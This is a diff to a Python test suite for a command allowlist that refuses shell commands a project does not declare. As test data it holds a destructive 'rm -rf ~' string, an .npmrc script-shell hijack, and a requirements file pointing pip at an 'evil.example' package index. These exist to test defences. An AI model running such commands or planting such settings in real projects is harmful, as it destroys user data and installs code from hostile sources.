@@ -9,12 +9,13 @@ import json
 from pathlib import Path
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from core.allowlist import Vouched, command_refusals
-from core.io.declared import declared_programs, declared_recipes
+from core.io.declared import Declarations, declared_packages, declared_programs, declared_tasks
 from core.screen import text_holds
+from core.vouched import Declared
 
 EVIL = "rm -rf ~"
 
@@ -40,7 +41,7 @@ def _project(root: Path) -> Path:
 @pytest.fixture
 def vouched(tmp_path: Path) -> Vouched:
     root = _project(tmp_path)
-    return Vouched(programs=declared_programs([root]), recipes=declared_recipes([root]))
+    return Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
 
 
 @pytest.mark.parametrize(
@@ -93,11 +94,11 @@ def test_a_task_of_a_place_is_held_for_its_recipe_or_where_its_place_was_not_rea
 def test_a_place_s_runner_settings_hold_its_tasks(tmp_path: Path) -> None:
     root = _project(tmp_path)
     (root / "apps" / "web" / ".npmrc").write_text("script-shell=./evil.sh\n")
-    vouched = Vouched(programs=declared_programs([root]), recipes=declared_recipes([root]))
+    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
     assert command_refusals("npm --prefix apps/web run lint", vouched)
     assert command_refusals("npm --prefix apps/api run lint", vouched) == []  # another place: its own settings
     (root / ".npmrc").write_text("script-shell=./evil.sh\n")  # the root's are read from every place below it
-    vouched = Vouched(programs=declared_programs([root]), recipes=declared_recipes([root]))
+    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
     assert command_refusals("npm --prefix apps/api run lint", vouched)
 
 
@@ -111,7 +112,7 @@ def test_any_workspace_patterns_read_in_bounded_time_and_never_admit_a_member_s_
 ) -> None:
     root = _project(tmp_path_factory.mktemp("w"))
     (root / "pnpm-workspace.yaml").write_text(json.dumps({"packages": patterns}))
-    vouched = Vouched(programs=declared_programs([root]), recipes=declared_recipes([root]))
+    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
     assert command_refusals("pnpm --filter @acme/api test", vouched)  # read and held, or not read and held
 
 
@@ -125,7 +126,7 @@ def _sub_project(root: Path) -> Vouched:
     (root / ".ci").mkdir()
     (root / ".ci" / "Makefile").write_text("test:\n\tpytest\n")
     (root / "docs").mkdir()
-    return Vouched(programs=declared_programs([root]), recipes=declared_recipes([root]))
+    return Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
 
 
 @pytest.mark.parametrize(
@@ -177,7 +178,7 @@ def test_a_sub_folder_of_any_runner_is_read_where_a_lesson_runs_its_task(
 ) -> None:
     (tmp_path / "sub" / name).parent.mkdir(parents=True)
     (tmp_path / "sub" / name).write_text(text)
-    vouched = Vouched(programs=declared_programs([tmp_path]), recipes=declared_recipes([tmp_path]))
+    vouched = Vouched(programs=declared_programs([tmp_path]), tasks=declared_tasks([tmp_path]))
     assert text_holds(f"Run the tests with `{command}` in `sub/`.", vouched), command
     assert text_holds(f"Run the tests with `{command}`.", vouched) == []  # at the top, nothing of sub's runs
 
@@ -191,7 +192,7 @@ def test_a_folder_reached_through_a_link_or_never_seen_holds_its_tasks(tmp_path:
     (root / "sub").symlink_to(root / ".hid")  # round 8b: a link past the rules for hidden and outside folders
     (root / "out").symlink_to(elsewhere)
     (root / "src").mkdir()
-    vouched = Vouched(programs=declared_programs([root]), recipes=declared_recipes([root]))
+    vouched = Vouched(programs=declared_programs([root]), tasks=declared_tasks([root]))
     for lesson in (
         "Run `make test` from `sub/`: from elsewhere it fails.",
         "Run `make test` in `out/`.",
@@ -220,7 +221,50 @@ def test_an_install_from_a_requirements_file_that_says_where_from_is_held(tmp_pa
     (tmp_path / "requirements.txt").write_text("requests==2.31.0\n-r base.txt\n")
     (tmp_path / "base.txt").write_text(f"{line}\nflask\n")  # round 8b: nested, too
     (tmp_path / "requirements-dev.txt").write_text("pytest>=7 --hash=sha256:abc\nruff ; python_version > '3.8'\n")
-    vouched = Vouched(programs=declared_programs([tmp_path]), recipes=declared_recipes([tmp_path]))
+    vouched = Vouched(programs=declared_programs([tmp_path]), tasks=declared_tasks([tmp_path]))
     assert command_refusals("pip install -r requirements.txt", vouched)
     assert command_refusals("pip install -r elsewhere.txt", vouched)  # a file playbook did not read
     assert command_refusals("python -m pip install -r ./requirements-dev.txt", vouched) == []
+
+
+def test_what_was_read_below_a_project_is_kept_as_its_own_fields(tmp_path: Path) -> None:
+    root = tmp_path / "app"
+    (root / "a" / "b").mkdir(parents=True)
+    (root / "a" / "b" / "Makefile").write_text("test:\n\tpytest\n")
+    (root / "a" / "b" / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
+    (root / "requirements.txt").write_text("requests==2.31.0\n")
+    (root / "Makefile").write_text("test:\n\tpytest\n")
+    (root / "out").symlink_to(tmp_path)
+    tasks = declared_tasks([root])
+    assert tasks.places_seen == {"a", "a/b"} and tasks.places_linked == {"out"} and not tasks.places_cut
+    assert ("", "requirements.txt", "") in tasks.requirements  # read, and names only a requirement
+    held = [line for place, file, line in tasks.requirements if place == "./a/b" and file == "requirements.txt"]
+    assert held and all(line.startswith("$(unread: ") for line in held)
+    assert {task for task, _ in tasks.recipes} == {"make:test", "make:", "make@./a/b:test", "make@./a/b:"}
+    assert tasks.at("./a/b").recipes == {("make:test", "pytest"), ("make:", "pytest")}
+    assert not tasks.at("./a")  # no file of a runner there
+
+
+@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(order=st.permutations(range(6)), some=st.integers(min_value=1, max_value=6))
+def test_one_pass_over_folders_that_share_parents_reads_what_each_declares_alone(
+    tmp_path: Path, order: list[int], some: int
+) -> None:
+    """An export reads every session's folder in one pass (`Declarations`), each file once: what it finds for each
+    folder, and for several together, is what a pass of its own finds, in whatever order they are read."""
+    root = tmp_path / "mono"
+    if not root.exists():
+        root.mkdir()
+        _project(root)
+        (root / "apps" / "web" / "justfile").write_text("check:\n    ruff check .\n")
+    folders = [root, root / "apps" / "web", root / "apps" / "api", root / "tools", root / "apps" / "web" / "nested"]
+    folders.append(tmp_path / "gone")
+    chosen = [folders[i] for i in order[:some]]
+    read = Declarations()
+    for folder in chosen:
+        alone = Declared(
+            str(folder), declared_programs([folder]), declared_packages([folder]), declared_tasks([folder])
+        )
+        assert read.project(folder) == alone
+    together = declared_tasks(chosen[:1]).union(*(declared_tasks([f]) for f in chosen[1:]))
+    assert read.tasks(chosen) == together
